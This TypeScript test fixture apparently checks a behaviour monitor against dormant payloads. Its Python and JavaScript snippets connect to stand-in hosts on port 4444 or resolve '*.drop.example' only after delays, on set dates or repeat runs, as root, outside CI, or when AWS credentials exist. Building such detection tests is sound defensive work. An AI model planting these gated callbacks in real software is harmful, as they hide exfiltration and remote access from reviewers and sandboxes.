import { TCP, type Script } from "./behaviours.ts";

/** By code that waits for somebody, for a day, or for another run. */
export const WAITING: readonly Script[] = [
  {
    name: "only in CI",
    file: "a.py",
    code: `import os\nif os.environ.get("CI"):\n${TCP("10.2.0.1").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.0.1:4444"],
  },
  {
    name: "never in CI",
    file: "a.js",
    code: 'if (!process.env.CI) require("dns").lookup("h.drop.example", () => {});\n',
    event: ["lookup", "h.drop.example"],
  },
  {
    name: "after an hour's sleep",
    file: "a.py",
    code: `import time\ntime.sleep(3600)\n${TCP("10.2.0.2")}`,
    event: ["connect", "10.2.0.2:4444"],
  },
  {
    name: "by a timer",
    file: "a.py",
    code: `import threading\ndef act():\n${TCP("10.2.0.3").replaceAll(/^(?=.)/gmu, "    ")}    pass\nthreading.Timer(86400, act).start()\n`,
    event: ["connect", "10.2.0.3:4444"],
  },
  {
    name: "by a timer of Node",
    file: "a.js",
    code: 'setTimeout(() => require("dns").lookup("i.drop.example", () => {}), 9e8);\n',
    event: ["lookup", "i.drop.example"],
  },
  {
    name: "after a date",
    file: "a.py",
    code: `import datetime\nif datetime.date.today() > datetime.date(2027, 3, 1):\n${TCP("10.2.0.4").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.0.4:4444"],
  },
  {
    name: "after a date, by the clock's seconds",
    file: "a.py",
    code: `import time\nif time.time() > 1850000000:\n${TCP("10.2.0.5").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.0.5:4444"],
  },
  {
    name: "after a date, by Node",
    file: "a.mjs",
    code: 'import dns from "node:dns";\nif (new Date() > new Date("2027-06-01")) dns.lookup("j.drop.example", () => {});\n',
    event: ["lookup", "j.drop.example"],
  },
  {
    name: "in the second run",
    file: "a.py",
    code: `import os\nif os.path.exists("/work/.seen"):\n${TCP("10.2.0.6").replaceAll(/^(?=.)/gmu, "    ")}open("/work/.seen", "w").close()\n`,
    event: ["connect", "10.2.0.6:4444"],
  },
  {
    name: "in the third run",
    file: "a.js",
    code: 'const fs = require("fs");\nconst n = fs.existsSync("/tmp/n") ? Number(fs.readFileSync("/tmp/n", "utf8")) : 0;\nfs.writeFileSync("/tmp/n", String(n + 1));\nif (n === 2) require("dns").lookup("k.drop.example", () => {});\n',
    event: ["lookup", "k.drop.example"],
  },
  {
    name: "for root",
    file: "a.py",
    code: `import getpass\nif getpass.getuser() == "root":\n${TCP("10.2.0.7").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.0.7:4444"],
  },
  {
    name: "with a certain locale",
    file: "a.py",
    code: `import os\nif os.environ.get("LANG", "").startswith("de"):\n${TCP("10.2.0.8").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.0.8:4444"],
  },
  {
    name: "with a certain command",
    file: "a.py",
    code: `import sys\nif len(sys.argv) > 1 and sys.argv[1] == "sync":\n${TCP("10.2.0.9").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.0.9:4444"],
  },
  {
    name: "with a certain option",
    file: "a.js",
    code: 'if (process.argv.includes("--publish")) require("dns").lookup("l.drop.example", () => {});\n',
    event: ["lookup", "l.drop.example"],
  },
  {
    name: "where a server is",
    file: "a.py",
    code: `import os\nif os.environ.get("SSH_CONNECTION"):\n${TCP("10.2.1.1").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.1.1:4444"],
  },
  {
    name: "where there is a key",
    file: "a.py",
    code: `import os\nif os.path.exists(os.path.expanduser("~/.aws/credentials")):\n${TCP("10.2.1.2").replaceAll(/^(?=.)/gmu, "    ")}`,
    event: ["connect", "10.2.1.2:4444"],
  },
];
